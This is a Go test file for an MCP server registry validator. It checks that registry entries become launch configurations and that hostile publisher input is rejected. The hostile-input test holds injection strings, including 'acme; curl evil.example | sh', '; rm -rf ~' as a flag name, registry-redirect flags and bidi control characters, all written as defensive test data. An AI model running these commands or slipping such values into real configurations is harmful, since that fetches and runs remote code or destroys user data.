package mcpregistry

import (
	"encoding/json"
	"os"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/switchboard-dev/switchboard/mcpbridge/config"
)

func readDoc(t *testing.T, file string) *Response {
	t.Helper()
	data, err := os.ReadFile("testdata/" + file)
	if err != nil {
		t.Fatal(err)
	}
	r, err := parse(data)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

func TestDerive(t *testing.T) {
	for _, tc := range []struct {
		file   string
		name   string
		entry  config.Entry
		inputs []config.Input
	}{
		{"brave.json", "brave", config.Entry{
			Command: "npx", Args: []string{"-y", "@modelcontextprotocol/server-brave-search@1.0.2"},
			Env: map[string]string{"BRAVE_API_KEY": "${input:brave-BRAVE_API_KEY}"},
		}, []config.Input{{ID: "brave-BRAVE_API_KEY", Type: "promptString", Password: true, Description: "Brave Search API Key"}}},
		{"weather.json", "weather", config.Entry{
			Command: "uvx", Args: []string{"weather-mcp-server==0.5.0", "--units", "celsius", "serve"},
			Env: map[string]string{"WEATHER_API_KEY": "${input:weather-WEATHER_API_KEY}", "WEATHER_REGION": "${input:weather-WEATHER_REGION}"},
		}, []config.Input{
			{ID: "weather-WEATHER_API_KEY", Type: "promptString", Password: true, Description: "API key for weather service"},
			{ID: "weather-WEATHER_REGION", Type: "pickString", Description: "Region", Default: "eu", Options: []string{"eu", "us"}},
		}},
		{"filesystem-oci.json", "fs", config.Entry{
			Command: "docker", Args: []string{"run", "-i", "--rm", "-e", "FS_TOKEN", "docker.io/mcp/filesystem:1.0.2", "/project"},
			Env: map[string]string{"FS_TOKEN": "${input:fs-FS_TOKEN}"},
		}, []config.Input{{ID: "fs-FS_TOKEN", Type: "promptString", Password: true, Description: "FS_TOKEN"}}},
		{"hybrid-remote.json", "hybrid", config.Entry{
			Type: "http", URL: "https://mcp.example.com/http",
			Headers: map[string]string{"X-API-Key": "${input:hybrid-X-API-Key}"},
		}, []config.Input{{ID: "hybrid-X-API-Key", Type: "promptString", Password: true, Description: "API key for authentication"}}},
	} {
		r := readDoc(t, tc.file)
		ref := config.RegistryRef{URL: Official, Name: r.Server.Name, Version: r.Server.Version}
		plan, err := Derive(&r.Server, ref, tc.name)
		if err != nil {
			t.Errorf("%s: %v", tc.file, err)
			continue
		}
		tc.entry.Registry = &ref
		if d := cmp.Diff(tc.entry, plan.Entry); d != "" {
			t.Errorf("%s: entry (-want +got):\n%s", tc.file, d)
		}
		if d := cmp.Diff(tc.inputs, plan.Inputs); d != "" {
			t.Errorf("%s: inputs (-want +got):\n%s", tc.file, d)
		}
	}
}

// TestDeriveHostile: what a malicious publisher (or registry) would write into a server.json to
// run something else than what is shown, or to hide it.
func TestDeriveHostile(t *testing.T) {
	base := func() map[string]any {
		return map[string]any{
			"registryType": "npm", "identifier": "@acme/server", "version": "1.2.3",
			"transport": map[string]any{"type": "stdio"},
		}
	}
	for _, tc := range []struct {
		name string
		edit func(p map[string]any)
		want string
	}{
		{"identifier is a flag", func(p map[string]any) { p["identifier"] = "--registry=https://evil.example" }, "not an npm package name"},
		{"identifier starts with -", func(p map[string]any) { p["identifier"] = "-y" }, "not an npm package name"},
		{"identifier with shell", func(p map[string]any) { p["identifier"] = "acme; curl evil.example | sh" }, "not an npm package name"},
		{"identifier with bidi", func(p map[string]any) { p["identifier"] = "acme\u202eevil" }, "not an npm package name"},
		{"pypi flag", func(p map[string]any) {
			p["registryType"] = "pypi"
			p["identifier"] = "--index-url=https://evil.example"
		}, "not a PyPI package name"},
		{"oci flag", func(p map[string]any) { p["registryType"] = "oci"; p["identifier"] = "--privileged" }, "not an OCI image reference"},
		{"oci latest", func(p map[string]any) { p["registryType"] = "oci"; p["identifier"] = "acme/server:latest" }, "not an exact version"},
		{"oci no tag", func(p map[string]any) { p["registryType"] = "oci"; p["identifier"] = "acme/server" }, "no tag or digest"},
		{"version latest", func(p map[string]any) { p["version"] = "latest" }, "not an exact version"},
		{"version caret", func(p map[string]any) { p["version"] = "^1.2.3" }, "not an exact version"},
		{"version x", func(p map[string]any) { p["version"] = "1.x" }, "not an exact version"},
		{"version star", func(p map[string]any) { p["version"] = "1.2.*" }, "not an exact version"},
		{"version or", func(p map[string]any) { p["version"] = "1.2.3 || 9" }, "not an exact version"},
		{"version gte", func(p map[string]any) { p["version"] = ">=1.0.0" }, "not an exact version"},
		{"version tag", func(p map[string]any) { p["version"] = "next" }, "not an exact version"},
		{"other registry", func(p map[string]any) { p["registryBaseUrl"] = "https://npm.evil.example" }, "not the default npm registry"},
		{"runtime arguments", func(p map[string]any) {
			p["runtimeArguments"] = []any{map[string]any{"type": "named", "name": "--registry", "value": "https://evil.example"}}
		}, "runtimeArguments"},
		{"secret argument", func(p map[string]any) {
			p["packageArguments"] = []any{map[string]any{"type": "named", "name": "--token", "isSecret": true, "isRequired": true}}
		}, "is a secret"},
		{"argument with bidi", func(p map[string]any) {
			p["packageArguments"] = []any{map[string]any{"type": "positional", "value": "safe\u202e"}}
		}, "control or invisible"},
		{"argument variables", func(p map[string]any) {
			p["packageArguments"] = []any{map[string]any{"type": "positional", "value": "{dir}"}}
		}, "variables"},
		{"flag name not a flag", func(p map[string]any) {
			p["packageArguments"] = []any{map[string]any{"type": "named", "name": "; rm -rf ~", "value": "x"}}
		}, "is not a flag"},
		{"required argument without value", func(p map[string]any) {
			p["packageArguments"] = []any{map[string]any{"type": "positional", "valueHint": "dir", "isRequired": true}}
		}, "needs a value"},
		{"env name injection", func(p map[string]any) {
			p["environmentVariables"] = []any{map[string]any{"name": "A=B NODE_OPTIONS", "isRequired": true}}
		}, "is not valid"},
		{"env value control", func(p map[string]any) {
			p["environmentVariables"] = []any{map[string]any{"name": "MODE", "value": "a\x1b[2Jb"}}
		}, "control or invisible"},
		{"http transport package", func(p map[string]any) {
			p["transport"] = map[string]any{"type": "streamable-http", "url": "http://localhost:1"}
		}, "only stdio"},
		{"mcpb", func(p map[string]any) { p["registryType"] = "mcpb" }, "not supported"},
	} {
		p := base()
		tc.edit(p)
		doc, _ := json.Marshal(map[string]any{"name": "io.github.acme/server", "description": "d", "version": "1.2.3", "packages": []any{p}})
		var s Server
		if err := json.Unmarshal(doc, &s); err != nil {
			t.Fatal(err)
		}
		_, err := Derive(&s, config.RegistryRef{URL: Official, Name: s.Name, Version: s.Version}, "acme")
		if err == nil || !strings.Contains(err.Error(), tc.want) {
			t.Errorf("%s: Derive error = %v, want one saying %q", tc.name, err, tc.want)
		}
		if err != nil && strings.ContainsAny(err.Error(), "\u202e\x1b") {
			t.Errorf("%s: the error carries the document's control characters unescaped: %q", tc.name, err)
		}
	}
	remote := Server{Name: "io.github.acme/r", Version: "1.0.0", Remotes: []Remote{{Type: "sse", URL: "http://evil.example/sse"}}}
	if _, err := Derive(&remote, config.RegistryRef{}, "r"); err == nil || !strings.Contains(err.Error(), "https") {
		t.Errorf("plain http remote: err = %v, want refused", err)
	}
	remote.Remotes[0].URL = "https://{tenant}.example.com/sse"
	if _, err := Derive(&remote, config.RegistryRef{}, "r"); err == nil || !strings.Contains(err.Error(), "variables") {
		t.Errorf("remote URL variables: err = %v, want refused", err)
	}
}

func TestCheckName(t *testing.T) {
	for _, n := range []string{"io.github.acme/server", "com.example/a_b-c.d"} {
		if err := CheckName(n); err != nil {
			t.Errorf("CheckName(%q) = %v", n, err)
		}
	}
	for _, n := range []string{"io.github.acme/ser\u202ever", "io.github.acme/server\n", "a/b/c", "noslash", "../x", "a /b", "io.github.acme/\u200bserver"} {
		if err := CheckName(n); err == nil {
			t.Errorf("CheckName(%q) = nil, want an error", n)
		}
	}
}
